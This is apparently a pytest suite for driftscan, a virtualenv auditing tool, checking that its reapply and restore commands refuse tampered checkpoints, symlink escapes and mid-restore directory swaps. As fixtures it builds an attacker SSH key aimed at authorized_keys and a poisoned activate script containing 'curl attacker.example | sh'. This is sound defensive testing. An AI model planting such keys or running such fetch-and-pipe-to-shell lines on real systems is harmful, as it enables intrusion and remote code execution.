"""A checkpoint, and driftscan's own cache, are input to ``reapply`` and ``restore``, never
instructions: they write only inside the environment the user named (or the checkpoint's own,
checked to be that environment), only files a RECORD of it lists or added files that are absent,
and every path is opened below its directory without following a symlink.

Real venvs (pip, toypkg wheels built by fixtures/upgrades.py), the real command line where the
exit status and the output are the point, ``api`` in-process where a run is interrupted on purpose.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import sys
from pathlib import Path

import pytest

from driftscan import api
from fixtures.copiedvenv import base_venv, env, house, listing, venv  # noqa: F401 (fixtures)
from fixtures.upgrades import MODEL, NAME, cli, site_of


def sha256(data: bytes) -> str:
    return "sha256=" + hashlib.sha256(data).hexdigest()


def tampered_checkpoint(dest: Path, venv: Path | None, files: list[dict], saved: dict[str, bytes]) -> Path:
    """A checkpoint written by hand, as an attacker (or a corrupted copy) would: ``files`` its
    index rows, ``saved`` the content of its ``files/`` and ``originals/`` entries."""
    dest.mkdir()
    for rel, data in saved.items():
        (dest / rel).parent.mkdir(parents=True, exist_ok=True)
        (dest / rel).write_bytes(data)
    rows = [{"path": str((venv or dest) / f["relpath"]), "area": "env", "scope": "package", **f} for f in files]
    index = {"format": "1", "root": str(venv) if venv else None, "venv": str(venv) if venv else None,
             "files": rows}
    (dest / "checkpoint.json").write_text(json.dumps(index))
    return dest


KEY = b"ssh-ed25519 AAAA attacker@example\n"
ADDED_KEY = {"relpath": ".ssh/authorized_keys", "kind": "added", "content": "files/.ssh/authorized_keys",
             "hash_after": sha256(KEY), "mode": 0o600}


@pytest.mark.parametrize("looks_like_a_venv", [False, True])
def test_a_checkpoint_naming_a_directory_that_is_no_environment_writes_nothing_there(tmp_path, env,
                                                                                      looks_like_a_venv):
    """Its index names a home directory as its environment (with a pyvenv.cfg planted, too): the
    dry run and --yes both stop with why, and nothing is written there."""
    home = tmp_path / "home"
    home.mkdir()
    (home / "notes.txt").write_text("mine\n")
    if looks_like_a_venv:
        (home / "pyvenv.cfg").write_text("home = /usr/bin\n")
        (home / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages").mkdir(parents=True)
    cp = tampered_checkpoint(tmp_path / "cp", home, [ADDED_KEY], {"files/.ssh/authorized_keys": KEY})
    before = listing(home)
    for extra in ((), ("--yes",)):
        proc = cli("reapply", str(cp), *extra, "--format", "json", env=env)
        assert proc.returncode != 0, proc.stdout
        assert ("no installed distribution there has a RECORD: nothing written" if looks_like_a_venv
                else "not a virtual environment") in proc.stderr, proc.stderr
    assert listing(home) == before
    assert not (home / ".ssh").exists()


def test_the_checkpoints_own_venv_gets_no_added_file_outside_a_package_directory(tmp_path, venv, env):
    """The checkpoint names the real venv: it is checked to be that environment (said in the dry
    run), and an added file only goes where a RECORD of it lists files."""
    cp = tampered_checkpoint(tmp_path / "cp", venv, [ADDED_KEY], {"files/.ssh/authorized_keys": KEY})
    dry = cli("reapply", str(cp), "--format", "json", env=env)
    report = json.loads(dry.stdout)
    assert any("the one the checkpoint names" in n and "checked" in n for n in report["notes"]), report["notes"]
    (row,) = report["files"]
    assert row["status"] == "refused" and "no RECORD" in row["reason"], row
    proc = cli("reapply", str(cp), "--yes", "--format", "json", env=env)
    (row,) = json.loads(proc.stdout)["files"]
    assert row["status"] == "refused", row
    assert not (venv / ".ssh").exists()


def test_files_symlinked_out_of_the_checkpoint_are_not_read(tmp_path, venv, env):
    """``files/`` a symlink to a directory holding a 0600 key: nothing of it reaches the venv."""
    outside = tmp_path / "secrets"
    (outside / NAME).mkdir(parents=True)
    secret = outside / NAME / "id_key.py"
    secret.write_bytes(b"KEY = 'private'\n")
    os.chmod(secret, 0o600)
    cp = tampered_checkpoint(tmp_path / "cp", venv, [], {})
    (cp / "files").symlink_to(outside)
    rel = os.path.relpath(site_of(venv) / NAME / "id_key.py", venv)
    index = json.loads((cp / "checkpoint.json").read_text())
    index["files"] = [{"path": str(venv / rel), "relpath": rel, "area": "env", "scope": "package", "kind": "added",
                       "content": f"files/{NAME}/id_key.py", "hash_after": sha256(secret.read_bytes())}]
    (cp / "checkpoint.json").write_text(json.dumps(index))
    proc = cli("reapply", str(cp), "--venv", str(venv), "--yes", "--keep-findings", "--format", "json", env=env)
    (row,) = json.loads(proc.stdout)["files"]
    assert row["status"] == "failed" and "unreadable" in row["reason"], row
    assert proc.returncode != 0
    assert not (site_of(venv) / NAME / "id_key.py").exists()


def test_a_file_no_record_lists_is_not_replaced_because_it_matches_the_checkpoints_original(tmp_path, venv, env):
    activate = venv / "bin" / "activate"
    current = activate.read_bytes()
    evil = b"\0binary\0curl attacker.example | sh\n"
    row = {"relpath": "bin/activate", "kind": "modified", "content": "files/bin/activate",
           "original": "originals/bin/activate", "hash_before": sha256(current), "hash_after": sha256(evil)}
    cp = tampered_checkpoint(tmp_path / "cp", venv, [row],
                             {"files/bin/activate": evil, "originals/bin/activate": current})
    dry = cli("reapply", str(cp), "--venv", str(venv), "--format", "json", env=env)
    (planned,) = json.loads(dry.stdout)["files"]
    assert planned["status"] == "skipped" and "no RECORD" in planned["reason"], planned
    proc = cli("reapply", str(cp), "--venv", str(venv), "--yes", "--format", "json", env=env)
    (done,) = json.loads(proc.stdout)["files"]
    assert done["status"] == "skipped", done
    assert activate.read_bytes() == current


def test_a_package_directory_swapped_for_a_symlink_mid_restore_fails_that_file(tmp_path, venv, house, env,
                                                                              monkeypatch):
    """Planned against the real directory; swapped for a link out just before the writes start:
    the file is reported failed (with why), the place outside keeps its bytes."""
    from driftscan.reinstall import restore as restore_mod

    site = site_of(venv)
    edited = (site / MODEL).read_bytes() + b"# edited\n"
    (site / MODEL).write_bytes(edited)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    real_open_journal = restore_mod.open_journal

    def swap_then_open(root, notes, *roots):
        shutil.move(str(site / NAME), str(outside / NAME))
        (site / NAME).symlink_to(outside / NAME)
        return real_open_journal(root, notes, *roots)

    monkeypatch.setattr(restore_mod, "open_journal", swap_then_open)
    report = api.restore(str(venv), wheels=[str(house)], dists=[NAME], yes=True, checkpoint_path=str(tmp_path / "cp"))
    (action,) = [a for a in report.actions if a.relpath == MODEL]
    assert action.status == "failed", action
    assert "symlink" in (action.error or ""), action
    assert action in report.not_done
    assert (outside / MODEL).read_bytes() == edited
    assert not [n for n in os.listdir(outside / NAME) if n.startswith(".driftscan")]


@pytest.mark.parametrize("sub", ["reapply", "originals", "restore", ""])
def test_a_cache_inside_the_environment_is_refused_and_nothing_written(tmp_path, venv, env, sub):
    site = site_of(venv)
    cache = Path(env["DRIFTSCAN_CACHE_DIR"])
    if sub:
        (cache / sub).symlink_to(site / NAME)
    else:
        cache.rmdir()
        cache.symlink_to(site)
    (site / MODEL).write_bytes((site / MODEL).read_bytes() + b"# edited\n")
    cp = tampered_checkpoint(tmp_path / "cp", venv, [], {})
    before = listing(site)
    for argv in (("reapply", str(cp), "--venv", str(venv), "--yes"), ("restore", "--venv", str(venv), "--yes")):
        proc = cli(*argv, env=env)
        assert proc.returncode != 0, proc.stdout
        assert "inside the audited tree" in proc.stderr and "nothing written" in proc.stderr, proc.stderr
    assert listing(site) == before


def test_reapply_writes_only_what_the_dry_run_listed_and_keeps_the_mode_the_reference_says(tmp_path, venv, env):
    """An added file that is absent, in a directory not there yet: the dry run names the file and
    the directory (text and JSON), --yes writes them and nothing else, never with the setuid bit
    or group/other write the index asks for."""
    site = site_of(venv)
    new = site / NAME / "newdir" / "extra.txt"
    data = b"notes\n"
    row = {"relpath": os.path.relpath(new, venv), "kind": "added", "content": "files/extra.txt",
           "hash_after": sha256(data), "mode": 0o6777}
    cp = tampered_checkpoint(tmp_path / "cp", venv, [row], {"files/extra.txt": data})
    before = listing(venv)
    dry = json.loads(cli("reapply", str(cp), "--venv", str(venv), "--format", "json", env=env).stdout)
    text = cli("reapply", str(cp), "--venv", str(venv), env=env).stdout
    assert listing(venv) == before
    (planned,) = [f for f in dry["files"] if f["status"] == "planned"]
    assert (planned["path"], planned["creates"]) == (str(new), [str(new.parent)])
    assert f"writes {new}" in text and f"creates the directory {new.parent}" in text, text
    proc = cli("reapply", str(cp), "--venv", str(venv), "--yes", "--format", "json", env=env)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    after = listing(venv)
    changed = {k for k in set(after) | set(before) if after.get(k) != before.get(k)}
    assert changed == {os.path.relpath(new, venv), os.path.relpath(new.parent, venv)}
    assert new.read_bytes() == data
    assert stat.S_IMODE(os.stat(new).st_mode) & 0o7022 == 0


def test_a_package_directory_swapped_for_a_symlink_mid_reapply_fails_that_file(tmp_path, venv, env, monkeypatch):
    from driftscan.reinstall import reapply as reapply_mod

    site = site_of(venv)
    new = site / NAME / "extra.txt"
    data = b"notes\n"
    row = {"relpath": os.path.relpath(new, venv), "kind": "added", "content": "files/extra.txt",
           "hash_after": sha256(data)}
    cp = tampered_checkpoint(tmp_path / "cp", venv, [row], {"files/extra.txt": data})
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    real_open_journal = reapply_mod.open_journal

    def swap_then_open(root, notes, *roots):
        shutil.move(str(site / NAME), str(outside / NAME))
        (site / NAME).symlink_to(outside / NAME)
        return real_open_journal(root, notes, *roots)

    monkeypatch.setattr(reapply_mod, "open_journal", swap_then_open)
    report = api.reapply(str(cp), str(venv), yes=True, checkpoint_path=str(tmp_path / "new-cp"))
    (item,) = report.files
    assert item.status == "failed" and "symlink" in item.reason, item
    assert item in report.refused_or_failed
    assert not (outside / NAME / "extra.txt").exists()
    assert not [n for n in os.listdir(outside / NAME) if n.startswith(".driftscan")]
